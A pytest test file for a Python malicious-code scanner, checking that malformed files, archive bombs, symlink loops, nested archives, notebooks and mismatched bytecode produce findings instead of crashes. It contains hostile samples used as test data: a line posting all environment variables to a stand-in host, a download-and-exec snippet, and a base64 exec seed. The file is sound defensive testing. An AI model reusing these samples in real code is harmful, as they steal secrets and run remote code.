"""Attacks on the scanner itself: each ends in a finding, none in a crash, a hang or silence."""

from __future__ import annotations

import ast
import importlib.util
import io
import json
import os
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heimnetz_git.scan.engine import scan, scan_archive, scan_tree, scan_wheel

HARM = b"import os, requests\nrequests.post('https://c2.example.invalid', json=dict(os.environ))\n"


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip archive of these files."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target.getvalue()


UNREADABLE = {
    "deep brackets": b"x = " + b"[" * 5_000 + b"]" * 5_000,
    "deep unary": b"x = " + b"-" * 20_000 + b"1",
    "deep blocks": b"".join(b" " * n + b"if x:\n" for n in range(150)) + b" " * 150 + b"pass\n",
    "broken": b"def f(:\n",
    "nul": b"x = 1\n\0\n",
    "unknown codec": b"# coding: no-such-codec\nx = 1\n",
    "not utf-8": b"x = '\xff\xfe\xfa'\n",
    "too many signs": b"x = [" + b"(),\n" * 900_000 + b"]",
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_what_cannot_be_read_is_not_cleared(name: str) -> None:
    """Each is a finding that asks for a person."""
    report = scan({"clock/a.py": UNREADABLE[name]})
    assert "not-analysed" in {it.rule for it in report.findings}
    assert report.verdict != "accept"


COVERS = {
    "newer syntax": b"type Pairs[T] = list[tuple[T, T]]\ndef f[T](x: T) -> T: return x\n",
    "a broken line": b"x = = 1\n",
    "old syntax": b"print 'hello'\n",
    "nul": b"x = '\0'\n",
    "unknown codec": b"# coding: no-such-codec\n",
    "byte order mark": b"\xef\xbb\xbf",
    "carriage returns": b"x = 1\r",
    "form feed": b"\x0c\n",
    "hushed": b"# nosec noqa nosemgrep type: ignore pragma: no cover\n",
    "a very long line": b"x = '" + b"A" * 3_000_000 + b"'\n",
}


@pytest.mark.parametrize("name", COVERS)
def test_one_odd_line_hides_nothing_else(name: str) -> None:
    """What stands beside a line that does not parse is analysed all the same."""
    report = scan({"clock/a.py": COVERS[name] + HARM})
    assert "exfiltration" in {it.rule for it in report.findings}


def test_python_2_is_read_as_what_it_is() -> None:
    """An old module is a note of its own, and its harm is found."""
    code = (
        b"import os, urllib2\nprint 'installing'\ntry:\n    pass\n"
        b"except ValueError, e:\n    print e\nexec urllib2.urlopen('http://c2.example.invalid').read()\n"
    )
    report = scan({"clock/a.py": code})
    assert {("not-analysed", "low"), ("download-execute", "high")} <= {
        (it.rule, str(it.severity)) for it in report.findings
    }


def test_links_and_what_cannot_be_opened_are_findings(tmp_path: Path) -> None:
    """Loops of links end, and nothing is skipped in silence."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "loop").symlink_to(tmp_path, target_is_directory=True)
    (tmp_path / "link.py").symlink_to("/etc/hostname")
    os.mkfifo(tmp_path / "pipe.py")
    (tmp_path / os.fsdecode(b"name-\xff.py")).write_bytes(HARM)
    report = scan_tree(tmp_path)
    said = {(it.rule, it.location.file) for it in report.findings}
    assert {("not-analysed", name) for name in ("a/loop", "link.py", "pipe.py")} <= said
    assert report.verdict == "reject"
    assert json.dumps(report.document()).encode()


def test_archives_are_looked_into(tmp_path: Path) -> None:
    """In archives, in archives of archives, and in source distributions."""
    inner = zipped({"evil.py": HARM})
    assert scan({"clock/data.bin": inner}).verdict == "reject"
    assert scan({"clock/data.zip": zipped({"deep.zip": inner})}).verdict == "reject"
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        member = tarfile.TarInfo("clock-1.0/setup.py")
        member.size = len(HARM)
        archive.addfile(member, io.BytesIO(HARM))
        member = tarfile.TarInfo("clock-1.0/up")
        member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(member)
    report = scan_archive("clock-1.0.tar.gz", target.getvalue())
    assert {"exfiltration", "not-analysed"} <= {it.rule for it in report.findings}
    assert scan_archive("torn.tar.gz", target.getvalue()[:40]).verdict == "review"


def test_a_bomb_is_a_finding() -> None:
    """An archive that unpacks to far more than it is costs little and is not cleared."""
    bomb = zipped({"zeros.bin": b"\0" * (80 << 20)})
    began = time.process_time()
    report = scan({"clock/data.zip": bomb})
    assert {it.rule for it in report.findings} == {"not-analysed"}
    assert time.process_time() - began < 20


def test_a_wheel_of_any_package_is_scanned() -> None:
    """It need not be a plugin; one that is refused is still looked into."""
    metadata = b"Metadata-Version: 2.1\nName: clock\nVersion: 1.0\n"
    wheel = zipped({"clock/__init__.py": HARM, "clock-1.0.dist-info/METADATA": metadata})
    report = scan_wheel(wheel)
    assert "exfiltration" in {it.rule for it in report.findings}


def test_a_notebook_s_cells_are_code() -> None:
    """What a notebook would run is analysed, whatever its magics."""
    cells = [{"cell_type": "code", "source": ["%pip install x\n", *HARM.decode().splitlines(True)]}]
    data = json.dumps({"cells": cells}).encode()
    assert scan({"clock/demo.ipynb": data}).verdict == "reject"


def compiled(source: bytes) -> bytes:
    """The bytes of a compiled module, as this Python writes them."""
    code = compile(ast.parse(source), "clock/a.py", "exec")
    return bytes(importlib._bootstrap_external._code_to_timestamp_pyc(code))  # type: ignore[attr-defined]


def test_compiled_code_is_held_against_its_source() -> None:
    """A cache of what is there says nothing; one of something else is refused."""
    source = b"class Clock:\n    def tick(self, seconds):\n        return f'{seconds} gone'\n"
    file = "clock/__pycache__/a.cpython-311.pyc"
    same = scan({"clock/a.py": source, file: compiled(source)})
    other = scan({"clock/a.py": source, file: compiled(HARM)})
    alone = scan({file: compiled(source)})
    assert (same.verdict, other.verdict, alone.verdict) == ("accept", "reject", "reject")


def test_names_that_collide_lose_no_finding() -> None:
    """Two modules of one name are both analysed."""
    files = {"clock.py": b"x = 1\n", "clock/__init__.py": HARM, "src/clock.py": b"y = 2\n"}
    assert scan(files).verdict == "reject"


SEEDS = (HARM, b"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n", b"def f(*a, **k): pass\n")


@settings(max_examples=120, deadline=None)
@given(st.sampled_from(SEEDS), st.lists(st.tuples(st.integers(0, 120), st.integers(0, 255))))
def test_torn_modules_are_survived(seed: bytes, changes: list[tuple[int, int]]) -> None:
    """Any byte may be any other: there is a report all the same."""
    data = bytearray(seed)
    for place, byte in changes:
        data[place % len(data)] = byte
    scan({"clock/a.py": bytes(data), "clock/b.pyc": bytes(data), "c.zip": b"PK\x03\x04" + data})
